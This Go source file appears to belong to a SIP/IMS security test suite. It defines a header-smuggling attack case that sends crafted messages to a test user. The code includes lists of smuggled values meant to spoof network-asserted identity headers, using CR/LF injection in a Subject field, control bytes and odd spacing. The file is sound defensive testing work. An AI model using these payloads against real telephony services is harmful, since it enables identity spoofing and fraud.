package attack

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"time"

	"imsafe/proto/sip"
	"imsafe/secure"
)

// headerSmuggle: the headers of the network's word, written so that whoever removes them may not know them again.
func headerSmuggle() Attack {
	return Attack{
		ID: "ci.header.smuggle", Number: "CI-24", Title: "network headers in disguise",
		Text:     "a header that the edge does not recognise and the next function does is as good as one that nobody removed",
		Services: []Service{Integrity, Authentication}, Stride: Elevation, Threats: []Threat{Corruption}, Module: ServicesControl,
		Source: "RFC 3261 7.3; CVE-2020-28361", Access: both(),
		Bounds: Bounds{Packets: 160, Bytes: 160_000, Conns: 48, Time: 3 * time.Second},
		Variants: []Variant{
			{Name: "known", Position: Subscriber, Run: disguiseHeaders, Controls: []secure.ControlID{secure.CIIntegrityHeaderEdge}},
			{Name: "form", Position: Subscriber, Run: unformedHeaders, Controls: []secure.ControlID{secure.CIIntegrityRebuild},
				NoAblation: "a message is written from its index alone: no part of the program passes on octets as they came"},
		},
	}
}

// disguises are lines that some reader takes for a header of the network; each says forged.
func disguises() []string {
	const id = "<sip:forged@example.org>"
	var all []string
	for _, name := range []string{"Remote-Party-ID :", "Remote-Party-ID\t:", "remote-party-id:", "REMOTE-PARTY-ID:", "Remote-Party-ID:\r\n ",
		"Remote-Party-ID\r\n :",
		"P-Asserted-Service :", "p-asserted-service\t \t:", "P-Associated-URI :", "P-Asserted-Identity :", "P-Asserted-Identity:\r\n ",
		"Remote-Party-ID\x00:", "Subject: a\nRemote-Party-ID:", "Subject: a\rRemote-Party-ID:", "Subject: a\r\r\nRemote-Party-ID:",
		"Subject: a\x00\nRemote-Party-ID:",
		"Subject: \"a\r\nRemote-Party-ID:", ":Remote-Party-ID:", "Remote_Party_ID:", "Remote-Party-ID: <sip:a@example.org>, "} {
		all = append(all, name+" "+id)
	}
	return all
}

func disguiseHeaders(ctx context.Context, f *Field, o *Outcome) error {
	carol, err := f.Carol(ctx)
	if err != nil {
		return err
	}
	mallory, err := f.Mallory(ctx)
	if err != nil {
		return err
	}
	forged, arrived, way := 0, 0, "none"
	all := disguises()
	for i, line := range all {
		text := fmt.Sprintf("disguised %d", i)
		status, err := mallory.answered(ctx, mallory.Message(f.Users[Carol].IMPU, text, line))
		if errors.Is(err, ErrClosed) { // the target would not read on
			if mallory, err = f.Mallory(ctx); err == nil {
				continue
			}
		}
		if err != nil {
			return err
		}
		if status != 200 {
			continue // what is no SIP may have no answer at all
		}
		m, err := carol.Got(ctx, sip.MESSAGE, text)
		if err != nil {
			return err
		}
		arrived++
		if name, found := networkHeader(m); found {
			forged, way = forged+1, fmt.Sprintf("%q as %s", line, name)
		}
	}
	o.Arrived("%d messages, %d of them arrive at carol", len(all), arrived)
	o.Users = min(forged, 1)
	o.Peer(forged > 0, "of %d messages that arrive at carol %d have a forged header of the network, the last %s", arrived, forged, way)
	return nil
}

// networkHeader returns the name of a header that only networks write and that says what was forged.
func networkHeader(m *sip.Message) (string, bool) {
	for _, name := range []string{"Remote-Party-ID", "P-Asserted-Service", "P-Associated-URI", "P-Asserted-Identity"} {
		for n, v := range m.Fields() {
			if string(n) == name && contains(v, "forged") {
				return name, true
			}
		}
	}
	return "", false
}

// unformed are lines that fit into no index of header fields, but that a careless reader takes for a header of the network; each says forged.
func unformed() []string {
	const id = "<sip:forged@example.org>"
	var all []string
	for _, name := range []string{":Remote-Party-ID: ", "Remote-Party-ID\x0b: ", "Remote-Party-ID\x01: ", "Remote Party-ID: ", "(Remote-Party-ID): ", "Remote-Party-ID;: ",
		"Subject: a\x0bRemote-Party-ID: ", "Subject: a\x0cP-Asserted-Identity: ", "P-Asserted-Identity\x7f: ", "\"P-Asserted-Identity\": "} {
		all = append(all, name+id)
	}
	return all
}

// unformedHeaders sends them, each in a message of its own, and reads every octet that comes to carol.
func unformedHeaders(ctx context.Context, f *Field, o *Outcome) error {
	var heard bytes.Buffer
	carol, err := f.witness(ctx, Carol, &heard)
	if err == nil {
		err = carol.Register(ctx)
	}
	if err != nil {
		return err
	}
	mallory, err := f.Mallory(ctx)
	if err != nil {
		return err
	}
	refused := 0
	all := unformed()
	for i, line := range all {
		status, err := mallory.answered(ctx, mallory.Message(f.Users[Carol].IMPU, fmt.Sprintf("unformed %d", i), line))
		if err != nil {
			return err
		}
		o.Arrived("%d messages, the last answered %d", i+1, status)
		if status != 200 {
			refused++
		}
	}
	const last = "well formed"
	answer, err := mallory.Ask(ctx, mallory.Message(f.Users[Carol].IMPU, last))
	if err == nil && answer.Status() == 200 {
		_, err = carol.Got(ctx, sip.MESSAGE, last)
	}
	if err != nil {
		return err
	}
	carol.Close()
	forged := bytes.Count(heard.Bytes(), []byte("forged"))
	o.Users = min(forged, 1)
	o.Peer(forged > 0, "among the octets that carol's telephone receives the forged identity stands %d times; %d of %d messages are refused", forged, refused, len(all))
	o.Wire(!f.Foreign && refused < len(all), "%d of %d messages are taken", len(all)-refused, len(all))
	return nil
}
